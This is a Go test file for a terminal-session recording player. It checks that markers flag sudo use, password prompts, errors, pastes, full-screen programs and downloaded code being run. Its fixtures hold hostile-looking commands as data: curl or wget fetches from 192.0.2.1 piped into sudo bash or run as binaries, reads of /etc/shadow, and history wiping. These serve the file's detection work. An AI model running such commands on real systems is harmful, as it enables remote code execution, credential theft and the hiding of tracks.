package player

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	apievents "github.com/gravitational/teleport/api/types/events"

	"cordon/playback/recording"
)

const ps1 = "alice@web-1:~$ "

// typing is a session at a prompt in which each line is typed in steps of 200 ms
// and answered.
func typing(pairs ...string) []recording.Frame {
	list := []recording.Frame{out(0, ps1)}
	at := sec
	for i := 0; i < len(pairs); i += 2 {
		for _, c := range pairs[i] {
			list = append(list, out(at, string(c)))
			at += 200 * time.Millisecond
		}
		list = append(list, out(at, "\r\n"))
		at += sec
		list = append(list, out(at, pairs[i+1]+ps1))
		at += sec
	}
	return list
}

// said are the texts of the markers of a kind.
func said(p *Player, kind MarkerKind) []string {
	var out []string
	for _, m := range p.Markers() {
		if m.Kind == kind {
			out = append(out, m.Text)
		}
	}
	return out
}

func classify(line string) (string, bool) {
	return "history wiped", strings.Contains(line, "history -c")
}

// Each kind with a session that has it and one that lacks only that.
func TestMarkers_kinds(t *testing.T) {
	t.Parallel()
	tests := []struct {
		kind     MarkerKind
		name     string
		frames   []recording.Frame
		want     []string
		otherway []recording.Frame
	}{
		{MarkSudo, "sudo", typing("A=1 sudo -i", ""), []string{"A=1 sudo -i"}, typing("echo sudo", "")},
		{MarkSudo, "su in a list", typing("cd /tmp && su - root", ""), []string{"cd /tmp && su - root"}, typing("cd /tmp && sum x", "")},
		{
			MarkPassword, "only its answer was waited for", typing("sudo id", "[sudo] password for alice: \r\n"),
			nil, typing("id", ""),
		},
		{
			MarkPassword, "waits for a password",
			[]recording.Frame{out(0, ps1), out(sec, "su\r\n"), out(2*sec, "Password: "), out(5*sec, "\r\n")},
			[]string{"Password:"},
			[]recording.Frame{out(0, ps1), out(sec, "su\r\n"), out(2*sec, "Password: \r\n"), out(5*sec, "\r\n")},
		},
		{MarkError, "no such command", typing("nosuch", "bash: nosuch: command not found\r\n"), []string{"bash: nosuch: command not found"}, typing("nosuch", "bash: nosuch: command found\r\n")},
		{MarkError, "dash", typing("x", "sh: 1: x: not found\r\n"), []string{"sh: 1: x: not found"}, typing("x", "sh: 1: x: found\r\n")},
		{MarkError, "refused", typing("cat /etc/shadow", "cat: /etc/shadow: Permission denied\r\n"), []string{"cat: /etc/shadow: Permission denied"}, typing("cat /etc/shadow", "cat: /etc/shadow: Permission granted\r\n")},
		{MarkError, "a trace", typing("python3 x.py", "Traceback (most recent call last):\r\n  File \"x.py\"\r\nKeyError: 1\r\n"), []string{"Traceback (most recent call last):"}, typing("python3 x.py", "Trace\r\n")},
		{MarkError, "exit status", typing("make", "make: exit status 2\r\n"), []string{"make: exit status 2"}, typing("make", "make: exit status 0\r\n")},
		{MarkError, "typed, not written", typing("grep 'permission denied' x", ""), nil, typing("ls", "")},
		{MarkDownload, "through a pipe", typing("curl -s http://192.0.2.1/a.sh | sudo bash", ""), []string{"curl -s http://192.0.2.1/a.sh | sudo bash"}, typing("curl -s http://192.0.2.1/a.sh | less", "")},
		{MarkDownload, "inside", typing("bash <(curl -s http://192.0.2.1/a)", ""), []string{"bash <(curl -s http://192.0.2.1/a)"}, typing("diff <(curl -s http://192.0.2.1/a) b", "")},
		{MarkDownload, "later", typing("wget http://192.0.2.1/x.bin", "", "chmod +x x.bin", "", "./x.bin &", ""), []string{"./x.bin &"}, typing("wget http://192.0.2.1/x.bin", "", "chmod +x x.bin", "", "./y.bin &", "")},
		{MarkDownload, "under another name", typing("curl -o /tmp/i http://192.0.2.1/x", "", "sh /tmp/i", ""), []string{"sh /tmp/i"}, typing("curl -o /tmp/i http://192.0.2.1/x", "", "ls /tmp/i", "")},
		{MarkDanger, "by the classifier", typing("history -c", ""), []string{"history wiped: history -c"}, typing("history 5", "")},
		{
			MarkPaste, "lines at once",
			[]recording.Frame{out(0, ps1), out(sec, "id\r\n"), out(sec+5*time.Millisecond, "alice\r\n"+ps1), out(sec+9*time.Millisecond, "pwd\r\n"), out(2*sec, "/\r\n"+ps1)},
			[]string{"2 lines at once: id"},
			[]recording.Frame{out(0, ps1), out(sec, "id\r\n"), out(2*sec, "alice\r\n"+ps1), out(3*sec, "pwd\r\n"), out(4*sec, "/\r\n"+ps1)},
		},
		{
			MarkPaste, "a long line at once",
			[]recording.Frame{out(0, ps1), out(sec, "echo "+strings.Repeat("a", 30)+"\r\n"), out(2*sec, ps1)},
			[]string{"a line of 35 characters at once: echo " + strings.Repeat("a", 30)},
			typing("echo "+strings.Repeat("a", 30), ""),
		},
		{
			MarkPaste, "shown as pasted",
			[]recording.Frame{out(0, ps1), out(sec, "\x1b[7mcat x\x1b[27m"), out(3*sec, "\x1b[5Dcat x\r\n"), out(4*sec, ps1)},
			[]string{"a line of 5 characters at once: cat x"},
			[]recording.Frame{out(0, ps1), out(sec, "cat x"), out(3*sec, "\x1b[5Dcat x\r\n"), out(4*sec, ps1)},
		},
		{MarkLong, "much output", typing("seq 300", lines(300)), []string{"300 lines: seq 300"}, typing("seq 100", lines(100))},
		{MarkEnter, "with its command", append(typing(), out(2*sec, "vim x\r\n\x1b[?1049h~"), out(3*sec, "\x1b[?1049l"+ps1)), []string{"a full-screen program takes the screen: vim x"}, typing("vim x", "")},
		{MarkExit, "back", append(typing(), out(2*sec, "vim x\r\n\x1b[?1049h~"), out(3*sec, "\x1b[?1049l"+ps1)), []string{"the full-screen program ends after 1s"}, typing("vim x", "")},
		{MarkTeleport, "a lock", append(typing(), out(2*sec, "\r\nlock targeting User:\"alice\" is in force: stolen laptop\r\n")), []string{`lock targeting User:"alice" is in force: stolen laptop`}, append(typing(), out(2*sec, "\r\nlock targeting User:\"alice\" is over\r\n"))},
		{MarkTeleport, "a joiner", append(typing(), out(2*sec, "\r\nTeleport > User bob joined the session.\r\n")), []string{"Teleport > User bob joined the session."}, append(typing(), out(2*sec, "\r\nUser bob joined the session.\r\n"))},
		{MarkResize, "a size", []recording.Frame{out(0, "x"), resize(sec, 30, 5)}, []string{"the terminal is now 30x5"}, []recording.Frame{out(0, "x")}},
		{MarkJoin, "joins", []recording.Frame{note(0, "session.join", "bob joins")}, []string{"bob joins"}, []recording.Frame{note(0, "session.leave", "bob leaves")}},
		{MarkLeave, "leaves", []recording.Frame{note(0, "session.leave", "bob leaves")}, []string{"bob leaves"}, []recording.Frame{note(0, "session.join", "bob joins")}},
		{MarkEvent, "cut off", []recording.Frame{note(0, "client.disconnect", "client disconnected: lock")}, []string{"client disconnected: lock"}, []recording.Frame{note(0, "session.upload", "x")}},
	}
	for _, tt := range tests {
		t.Run(string(tt.kind)+"/"+tt.name, func(t *testing.T) {
			t.Parallel()
			r := rec(tt.frames...)
			r.Meta.Cols, r.Meta.Rows = 80, 24
			if diff := cmp.Diff(tt.want, said(NewWith(r, Options{Classify: classify}), tt.kind)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			r = rec(tt.otherway...)
			r.Meta.Cols, r.Meta.Rows = 80, 24
			if got := said(NewWith(r, Options{Classify: classify}), tt.kind); got != nil {
				t.Errorf("the twin has %q", got)
			}
		})
	}
}

func lines(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "%d\r\n", i)
	}
	return b.String()
}

// What the host logged needs no prompt.
func TestMarkers_programsThatTheHostLogged(t *testing.T) {
	t.Parallel()
	data := func(e *apievents.SessionCommand) recording.Frame {
		return recording.Frame{At: sec, Type: recording.Note, Event: logged(t, e)}
	}
	p := NewWith(rec(
		data(&apievents.SessionCommand{Metadata: apievents.Metadata{Type: "session.command"}, Path: "/bin/bash", Argv: []string{"-c", "history -c"}}),
		data(&apievents.SessionCommand{Metadata: apievents.Metadata{Type: "session.command"}, Path: "/bin/false", ReturnCode: 1}),
	), Options{Classify: classify})
	if diff := cmp.Diff([]string{"history wiped: /bin/bash -c history -c"}, said(p, MarkDanger)); diff != "" {
		t.Errorf("danger (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"runs /bin/false (failed, 1)"}, said(p, MarkError)); diff != "" {
		t.Errorf("errors (-want +got):\n%s", diff)
	}
}

// A command that still runs is marked, and is not marked twice when it ends.
func TestMarkers_whileACommandRuns(t *testing.T) {
	t.Parallel()
	r := rec(typing()...)
	r.Frames = append(r.Frames, out(2*sec, "sudo -i\r\n"))
	r.Meta.Cols, r.Meta.Rows = 80, 24
	p := New(r)
	want := []string{"sudo -i"}
	if diff := cmp.Diff(want, said(p, MarkSudo)); diff != "" {
		t.Errorf("running (-want +got):\n%s", diff)
	}
	r.Frames = append(r.Frames, out(3*sec, "root@web-1:~# "))
	p.Prepare(1 << 20)
	if diff := cmp.Diff(want, said(p, MarkSudo)); diff != "" {
		t.Errorf("over (-want +got):\n%s", diff)
	}
}

// A hostile recording cannot fill the list with one kind, nor with long texts.
func TestMarkers_areBounded(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("é", 4000)
	var list []recording.Frame
	for i := range maxOfKind + 10 {
		list = append(list, note(time.Duration(i), "session.join", long))
	}
	list = append(list, note(sec, "session.leave", "bob leaves"))
	p := New(rec(list...))
	if n := len(said(p, MarkJoin)); n != maxOfKind {
		t.Errorf("%d joins", n)
	}
	if diff := cmp.Diff([]string{"bob leaves"}, said(p, MarkLeave)); diff != "" {
		t.Errorf("leaves (-want +got):\n%s", diff)
	}
	if got := said(p, MarkJoin)[0]; len(got) > maxMarkerText+3 || !strings.HasPrefix(long, strings.TrimSuffix(got, "…")) {
		t.Errorf("a text of %d bytes", len(got))
	}
}
